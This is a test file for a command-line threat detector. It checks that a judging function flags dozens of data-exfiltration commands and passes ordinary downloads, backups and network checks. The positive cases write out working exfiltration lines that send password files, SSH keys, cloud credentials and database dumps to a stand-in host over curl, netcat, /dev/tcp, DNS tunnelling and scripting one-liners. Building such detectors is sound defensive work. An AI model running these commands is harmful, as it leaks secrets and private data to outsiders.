// Data that leaves is found by what is sent and how; ordinary downloads, calls of interfaces and deployments are not.
import { expect, test } from 'vitest';
import { judgeLine } from '../../../../detectors/process/threats/verdict/judge.ts';

test.each([
  "curl -F 'file=@/etc/shadow' http://10.9.8.7:8000/up",
  'curl --upload-file /home/ana/.ssh/id_rsa https://drop.example/x',
  'curl -k --data-binary @/var/backups/all.sql https://10.9.8.7/',
  'tar czf - /etc /home | curl -T - http://10.9.8.7/',
  'tar cf - /srv/data | base64 | curl -X POST --data-binary @- https://drop.example',
  'cat /etc/passwd | nc 10.9.8.7 9001',
  'nc -q0 10.9.8.7 9001 < /srv/db.dump',
  'openssl s_client -quiet -connect 10.9.8.7:443 < /etc/shadow',
  "bash -c 'cat /srv/secret.csv > /dev/tcp/10.9.8.7/9001'",
  'bash -c \'echo -n "$(<"/srv/secret.csv")" > /dev/tcp/10.9.8.7/80\'',
  'wget --post-file=/etc/passwd http://10.9.8.7/',
  'wget --method=PUT --body-file=/srv/db.dump https://drop.example/',
  'scp -o StrictHostKeyChecking=no /root/.ssh/id_rsa drop@10.9.8.7:/tmp/',
  'rsync -az /home/ana/.gnupg drop@10.9.8.7:loot/',
  "sftp drop@10.9.8.7:/up <<< 'put /etc/shadow'",
  'aws s3 cp /home/ana/.aws/credentials s3://bucket/',
  'gsutil cp /root/.kube/config gs://bucket/',
  'rclone copy /root/.ssh remote:loot --config /tmp/.r.conf',
  'for c in $(xxd -p /etc/passwd); do dig $c.t.example.org; done',
  'base64 -w 60 /srv/a.txt | while read l; do nslookup $l.t.example.org; done',
  'dig @10.9.8.7 "$(base64 -w0 /etc/hostname).t.example.org"',
  'xxd -p -c 16 /etc/passwd | while read l; do ping -c 1 -p $l 10.9.8.7; done',
  'whois -h 10.9.8.7 -p 43 "$(cat /etc/passwd)"',
  'finger "$(base64 /etc/passwd)@10.9.8.7"',
  'curl -F document=@/srv/dump.sql https://api.telegram.org/bot1:x/sendDocument',
  "curl -F 'file=@/srv/keys.tar' https://transfer.sh",
  "cat /etc/shadow | curl -F 'sprunge=<-' http://sprunge.us",
  'socat -u FILE:/etc/shadow TCP:10.9.8.7:9001',
  'socat -u file:/srv/dump.sql tcp-connect:10.9.8.7:9001',
  'busybox httpd -f -p 8000 -h /srv',
  'ruby -run -e httpd . -p 8000',
  'php -S 0.0.0.0:8000 -t /etc',
  'python3 -c \'import requests;requests.post("http://10.9.8.7",data=open("/etc/passwd").read())\'',
  'perl -MIO::Socket -e \'$s=new IO::Socket::INET("10.9.8.7:1");open(F,"/etc/passwd");print $s <F>\'',
  'ruby -rsocket -e \'TCPSocket.new("10.9.8.7",1).write(File.read("/etc/passwd"))\'',
  'lua -e \'local f=io.open("/etc/passwd");local s=require("socket");local t=s.tcp();t:connect("10.9.8.7",1);t:send(f:read("*a"))\'',
  'node -e \'require("fs").createReadStream("/etc/passwd").pipe(require("http").request({host:"10.9.8.7",method:"POST"}))\'',
  'php -r \'$s=fsockopen("10.9.8.7",1);fwrite($s,file_get_contents("/etc/passwd"));\'',
  'mail -s keys a@example.org < /root/.ssh/id_rsa',
  'restic -r rest:http://10.9.8.7/ backup /etc/shadow',
  "tar czf - /root | openssl enc -aes-256-cbc -k x | ssh u@10.9.8.7 'cat > x'",
  "ssh -p 2222 u@10.9.8.7 'cat > k' < /home/ana/.ssh/id_ed25519",
  'tftp 10.9.8.7 -c put /etc/shadow',
  "smbclient //10.9.8.7/share -c 'put /etc/passwd x'",
  "lftp -e 'put /root/.ssh/id_rsa; bye' 10.9.8.7",
  'ab -p /etc/passwd http://10.9.8.7/',
  'tar cf u@10.9.8.7:/x.tar /etc/shadow --rsh-command=/bin/ssh',
  'mysqldump --all-databases | nc 10.9.8.7 4444',
  'gcloud storage cp /root/.ssh/id_rsa gs://bucket',
  'az storage blob upload -f /etc/shadow -c x -n y',
  'croc send /etc/shadow',
  'julia -e \'using Sockets; s=connect("10.9.8.7",1);write(s,read("/etc/passwd"))\'',
  "ksh -c 'cat /etc/passwd > /dev/tcp/10.9.8.7/1'",
])('%s', (line) => {
  expect(judgeLine(line)).toMatchObject({ threat: true });
});

test('the category is its own', () => {
  expect(judgeLine("curl -F 'file=@/etc/shadow' http://10.9.8.7:8000/up").category).toBe('data_exfiltration');
});

test.each([
  'curl -fsSL https://example.org/x.tgz -o x.tgz',
  "curl -X POST -H 'Content-Type: application/json' -d '{\"a\":1}' https://api.example.org/v1",
  'curl -d @payload.json http://localhost:9200/_bulk',
  'wget -q https://example.org/x',
  'rsync -a --delete /srv/data/ backup01:/srv/data/',
  'scp build.tgz deploy@web1:/srv/',
  'aws s3 sync dist/ s3://site',
  'rclone sync /srv/media b2:media',
  'tar czf backup.tgz /etc',
  "ssh web1 'tar czf - /srv' > srv.tgz",
  'dig example.org +short',
  'ping -c 1 10.0.0.1',
  'nc -zv db 5432',
  "mysql -e 'select 1' < /dev/null",
  'python3 -m http.server 8000',
  'openssl s_client -connect example.org:443 < /dev/null',
  'restic backup /srv/data',
  'cat access.log | grep 500',
])('ordinary: %s', (line) => {
  expect(judgeLine(line).threat).toBe(false);
});
